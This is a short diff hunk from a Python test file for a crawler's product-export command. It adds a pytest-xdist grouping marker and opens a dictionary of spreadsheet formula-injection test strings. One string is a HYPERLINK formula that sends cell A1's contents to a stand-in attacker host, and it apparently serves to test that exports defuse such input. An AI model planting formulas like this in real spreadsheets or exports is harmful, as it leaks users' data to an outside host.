@@ -38,6 +38,9 @@ from matter_crawler.commands.export import check_output, export_products, where_
 
 from .helpers import PROJECT_ROOT, run_crawl, sqlite_url
 
+# its module-scoped fixtures crawl: run the module on one pytest-xdist worker, once
+pytestmark = pytest.mark.xdist_group(__name__)
+
 #: Texts a spreadsheet program would run (OWASP's list of first characters).
 FORMULAS = {
     "manufacturer": '=HYPERLINK("http://evil.example/?"&A1,"click")',
